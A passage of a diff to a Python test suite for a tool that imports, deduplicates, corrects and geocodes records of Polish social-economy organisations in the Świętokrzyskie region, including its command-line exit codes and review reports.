-                         {"name": "Inna", "types": "ngo", "locality": "Kielce", "nip": "2222222222"},
-                         {"name": "Inna (ten sam NIP)", "types": "ngo", "locality": "Kielce", "nip": "2222222222"}])
-    assert len(result.added) == 2 and len(out) == 5
-    assert sorted(result.rejects["row"].tolist()) == [3, 5]
+def test_names_differing_in_numbers_are_not_duplicates(tmp_path, context):
+    result, _ = merge(tmp_path, context, [{"name": "Klub Integracji Społecznej nr 1", "types": "kis", "locality": "Kielce"},
+                                          {"name": "Klub Integracji Społecznej nr 2", "types": "kis", "locality": "Kielce"}])
+    assert result.warnings.empty and len(result.added) == 2
 
 
-def test_new_rows_get_stable_ids_and_no_coordinates():
-    result, out = merge([{"name": "Nowa Spółdzielnia", "types": "Spółdzielnia socjalna", "locality": "Kielce"}])
-    new_id = stable_id("Nowa Spółdzielnia", "Kielce")
-    assert result.added["id"].tolist() == [new_id]
-    assert out.loc[new_id, ["types", "location_precision", "status"]].tolist() == \
-        ["spoldzielnia_socjalna", "none", "unknown"]
+# --- corrections ------------------------------------------------------------------------------------
+
+def test_corrections_fill_add_and_send_contradictions_to_review(tmp_path, context):
+    path = tmp_path / "poprawki.csv"
+    path.write_text(
+        "existing_id,nazwa_w_istniejacym_pliku,pole,wartosc,stan_wg_zrodla,source_url,uwagi\n"
+        "e2,Fundacja B,ulica_nr,ul. Nowa 9,2012,https://z.example.org/1,sprawdzić aktualność\n"
+        "e3,Caritas,kod_pocztowy,25-013,bez daty,https://z.example.org/2,\n"
+        "e3,Caritas,fakty,Nowy fakt,2017-06-22,https://z.example.org/3,\n"
+        "e1,Stowarzyszenie A,prowadzacy_lub_zalozyciele,Fundacja C (tak w źródle),2013,https://z.example.org/4,\n"
+        "e9,Nie ma,fakty,x,2020,https://z.example.org/5,\n"
+        "e3,Ktoś Inny,fakty,y,2020,https://z.example.org/6,\n", encoding="utf-8")
+    register = read_register(path, context)
+    with pytest.raises(MappingNeedsConfirmation):                    # 'uwagi' read as a remark: to confirm
+        preview(propose(register, context), existing_frame(), context)
+    result = preview(propose(register, context), existing_frame(), context, accept=True)
+    assert result.mode == "corrections"
+    out = result.merged.set_index("id")
+    assert out.loc["e2", "street"] == "ul. Stara 1"                  # contradicts the register: not applied
+    assert out.loc["e3", "postal_code"] == "25-013"                  # empty field: filled
+    assert out.loc["e3", "description"] == "Stary opis; Nowy fakt"
+    assert out.loc["e3", "sources"] == "https://z.example.org/2 | https://z.example.org/3"
+    assert out.loc["e3", "as_of"] == "2017-06-22" and out.loc["e1", "operator"] == ""
+    review = result.review.set_index("row")
+    assert review.loc[2, "reason"].startswith("sprzeczne z rejestrem") and review.loc[2, "note"] == "sprawdzić aktualność"
+    assert "tożsamości" in review.loc[5, "reason"] and review.loc[5, "proposed"] == "Fundacja C (tak w źródle)"
+    assert "nie odpowiada nazwie" in review.loc[7, "reason"]
+    assert result.rejects["row"].tolist() == [6]
+    assert result.counts == {"rows": 6, "added": 0, "changed": 1, "unchanged": 0, "warned": 0, "rejected": 1,
+                             "review": 3}
 
 
-def test_unknown_gmina_name_is_rejected_with_its_text():
-    result, out = merge([{"name": "X", "types": "ngo", "locality": "Kielce", "gmina": "Nibylandia"}])
-    assert result.rejects[["row", "column"]].values.tolist() == [[2, "gmina_teryt"]]
-    assert result.rejects.iloc[0]["gmina"] == "Nibylandia"
-    assert len(result.added) == 0
+# --- preview → apply, and the command ---------------------------------------------------------------
+
+def test_apply_writes_the_preview_and_refuses_a_stale_one(tmp_path, context):
+    record = tmp_path / "entities.csv"
+    shutil.copy(ENTITIES, record)
+    path = make_xlsx(tmp_path / "r.xlsx")
+    result = preview(propose(read_register(path, context), context), read_table(record).drop(columns="row"), context)
+    stale = preview(propose(read_register(path, context), context), read_table(record).drop(columns="row"), context)
+    apply(result, record)
+    assert len(read_table(record)) == len(existing()) + 4
+    with pytest.raises(Conflict, match="zmienił się od podglądu"):
+        apply(stale, record)
+    again = preview(propose(read_register(path, context), context), read_table(record).drop(columns="row"), context)
+    assert again.counts["added"] == 0 and again.changes.empty and again.counts["unchanged"] == 5
 
 
-# --- normalisation --------------------------------------------------------------------------------
-
-@pytest.mark.parametrize("value,code", [
-    ("Spółdzielnia socjalna", "spoldzielnia_socjalna"), ("Warsztat Terapii Zajęciowej", "wtz"), ("WTZ", "wtz"),
-    ("Zakład Aktywności Zawodowej", "zaz"), ("Centrum Integracji Społecznej", "cis"), ("KIS", "kis"),
-    ("Spółdzielnia inwalidów i niewidomych", "spoldzielnia_inwalidow"), ("spółka non-profit", "spolka_non_profit"),
-    ("Koło Gospodyń Wiejskich", "kgw"), ("OWES", "owes"), ("wtz, zaz", "wtz;zaz"), ("CIS / KIS", "cis;kis"),
-    ("Spoldzielnia socjalna", "spoldzielnia_socjalna"), ("Fundacja", "ngo"), ("coś innego", "coś innego"),
-])
-def test_type_names_to_codes(value, code):
-    assert norm.type_codes(value) == code
-
-
-@pytest.mark.parametrize("value,expected", [
-    ("25001", "25-001"), ("25 001", "25-001"), ("25-001", "25-001"), ("2123", "02-123"), ("abc", "abc"), ("", ""),
-])
-def test_postal_codes(value, expected):
-    assert norm.postal_code(value) == expected
-
-
-@pytest.mark.parametrize("value,expected", [
-    ("(0-41) 344-55-66", "+48 41 344 55 66"), ("600123456", "+48 600 123 456"),
-    ("+48 600 123 456; 41 3445566", "+48 600 123 456, +48 41 344 55 66"), ("0048413445566", "+48 41 344 55 66"),
-    ("tel. 41 344 55 66", "+48 41 344 55 66"), ("123", "123"),
-])
-def test_phones(value, expected):
-    assert norm.phone(value) == expected
-
-
-# --- the command ----------------------------------------------------------------------------------
-
-def test_cli_import_exit_codes(tmp_path, entities):
-    runner = CliRunner()
-    clean = make_xlsx(tmp_path / "czysty.xlsx", rows=XLSX_ROWS[:3])
-    result = runner.invoke(cli(), ["import", str(clean), "-o", str(entities)])
-    assert result.exit_code == 0, result.output
-    assert "dodano 2, zmieniono 1" in result.output
-    dirty = make_xlsx(tmp_path / "brudny.xlsx")
-    result = runner.invoke(cli(), ["import", str(dirty), "-o", str(entities)])
+def test_rejects_file_fixed_in_excel_imports_again(tmp_path, settings):
+    rows = [["Parafia Testowa", "Kielce"], ["Fundacja Dobra", "Kielce"]]
+    path = make_xlsx(tmp_path / "rejestr.xlsx", rows, ["Nazwa", "Miejscowość"], title=False)
+    result = run_cli(settings, "import", path)
     assert result.exit_code == 1, result.output
-    assert (tmp_path / "brudny.odrzucone.csv").exists()
-    assert "wiersz 7, kolumna nip" in result.output
-    result = runner.invoke(cli(), ["import", str(tmp_path / "brak.xlsx"), "-o", str(entities)])
-    assert result.exit_code == 2
-    assert result.output.strip().startswith("Błąd:") and len(result.output.strip().splitlines()) == 1
-
-
-def test_cli_import_dry_run_writes_nothing(tmp_path, entities):
-    before = entities.read_bytes()
-    xlsx = make_xlsx(tmp_path / "rejestr.xlsx")
-    result = CliRunner().invoke(cli(), ["import", str(xlsx), "-o", str(entities), "--dry-run"])
-    assert result.exit_code == 1 and "dry-run" in result.output
-    assert entities.read_bytes() == before and not (tmp_path / "rejestr.odrzucone.csv").exists()
-
-
-def test_cli_import_then_geocode(tmp_path, entities):
-    runner = CliRunner()
-    xlsx = make_xlsx(tmp_path / "rejestr.xlsx", rows=XLSX_ROWS[:2])
-    assert runner.invoke(cli(), ["import", str(xlsx), "-o", str(entities)]).exit_code == 0
-    result = runner.invoke(cli(), ["geocode", str(entities), "--offline", "--quiet", "--no-cache"])
+    rejects = tmp_path / "rejestr.odrzucone.csv"
+    fixed = pd.read_csv(rejects, dtype=str, encoding="utf-8-sig")
+    assert fixed.loc[0, "Nazwa"] == "Parafia Testowa" and fixed.loc[0, "row"] == "2"
+    fixed["Nazwa"] = "Fundacja Parafii Testowej"                   # the operator fixes the name in Excel
+    fixed.to_csv(tmp_path / "poprawione.csv", sep=";", index=False, encoding="cp1250")
+    result = run_cli(settings, "import", tmp_path / "poprawione.csv")
     assert result.exit_code == 0, result.output
-    out = read_table(entities).set_index("id")
+    assert "Fundacja Parafii Testowej" in set(read_table(settings.data_dir / "entities.csv")["name"])
+
+
+def test_cli_import_exit_codes_and_reports(tmp_path, settings):
+    clean = make_xlsx(tmp_path / "czysty.xlsx")
+    result = run_cli(settings, "import", clean)
+    assert result.exit_code == 0, result.output
+    assert "dodano 4, zmieniono 1" in result.output and "typ ustalony z nazwy" in result.output
+    assert (tmp_path / "czysty.ostrzezenia.csv").exists()
+    result = run_cli(settings, "import", tmp_path / "brak.xlsx")
+    assert result.exit_code == 2 and result.output.strip().startswith("Błąd:")
+    assert len(result.output.strip().splitlines()) == 1
+
+
+def test_cli_import_dry_run_writes_nothing(tmp_path, settings):
+    record = settings.data_dir / "entities.csv"
+    before = record.read_bytes()
+    result = run_cli(settings, "import", make_xlsx(tmp_path / "rejestr.xlsx"), "--dry-run")
+    assert result.exit_code == 0 and "dry-run" in result.output
+    assert record.read_bytes() == before and not list(tmp_path.glob("rejestr.*.csv"))
+
+
+def test_cli_import_then_geocode_offline(tmp_path, settings):
+    assert run_cli(settings, "import", make_xlsx(tmp_path / "r.xlsx", OFFICE_ROWS[:2])).exit_code == 0
+    result = run_cli(settings, "geocode", "--offline", "--quiet", "--no-cache")
+    assert result.exit_code == 0, result.output
+    out = read_table(settings.data_dir / "entities.csv").set_index("id")
     ss = out.loc[stable_id("Spółdzielnia Socjalna „Testowa”", "Jędrzejów")]
     assert (ss["location_precision"], ss["geocoder"]) == ("locality", "gazetteer:PRNG 2021")  # within gm. 2602023
-    wtz = out.loc[stable_id("Warsztat Terapii Zajęciowej „Testowy”", "Belno")]
+    wtz = out.loc[stable_id("Warsztat Terapii Zajęciowej „Testowy” w Belnie", "Belno")]
     assert (wtz["location_precision"], wtz["lat"]) == ("locality", "50.817500")   # Belno in gm. Bieliny
 
 
-def test_bad_mapping_exits_2(tmp_path, entities):
-    path = tmp_path / "odd.csv"
-    path.write_text(ODD_EXPORT, encoding="utf-8")
-    mapping = tmp_path / "m.csv"
-    mapping.write_text("Podmiot,nazwa_podmiotu\n", encoding="utf-8")
-    result = CliRunner().invoke(cli(), ["import", str(path), "-o", str(entities), "--mapping", str(mapping)])
-    assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1
+def test_the_supplement_of_real_entities_through_the_importer(tmp_path, settings, mirror_dir):
+    """The 33 hand-compiled real entities and the 8 corrections, with the mappings kept in scripts/."""
+    mappings = REPO_DIR / "scripts" / "mappings"
+    entities = mirror_dir / "entities"
+    record = settings.data_dir / "entities.csv"
+    seed = read_table(record).drop(columns="row")
+    seed = seed[~seed["id"].str.startswith("swk-n")]                  # the record as it was before the supplement
+    seed.to_csv(record, index=False)
+    before = seed.set_index("id")
+    first = run_cli(settings, "import", entities / "pes_swietokrzyskie_uzupelnienie.csv", "--reports", tmp_path)
+    assert first.exit_code == 2 and "niepewne" in first.output          # its headers need a confirmed mapping
+    result = run_cli(settings, "import", entities / "pes_swietokrzyskie_uzupelnienie.csv", "--reports", tmp_path,
+                     "--mapping", mappings / "pes_swietokrzyskie_uzupelnienie.csv")
+    assert result.exit_code == 0, result.output
+    assert "dodano 33, zmieniono 0" in result.output
+    result = run_cli(settings, "import", entities / "pes_swietokrzyskie_uzupelnienie_istniejacych.csv", "--reports",
+                     tmp_path, "--mapping", mappings / "pes_swietokrzyskie_uzupelnienie_istniejacych.csv")
+    assert result.exit_code == 0, result.output
+    out = read_table(record).drop(columns="row").set_index("id")
+    new = out[out.index.str.startswith("swk-n")]
+    assert len(new) == 33 and new["sources"].str.startswith("http").all()
+    assert new["types"].value_counts().to_dict() == {"kgw": 17, "wtz": 7, "ngo": 6, "spoldzielnia_socjalna": 2,
+                                                     "inne": 1}
+    assert out.loc["swk-027", "operator"] == before.loc["swk-027", "operator"]     # flagged, not applied
+    review = pd.read_csv(tmp_path / "pes_swietokrzyskie_uzupelnienie_istniejacych.do_przegladu.csv",
+                         dtype=str, encoding="utf-8-sig")
+    assert review[["id", "column"]].values.tolist() == [["swk-027", "operator"]]
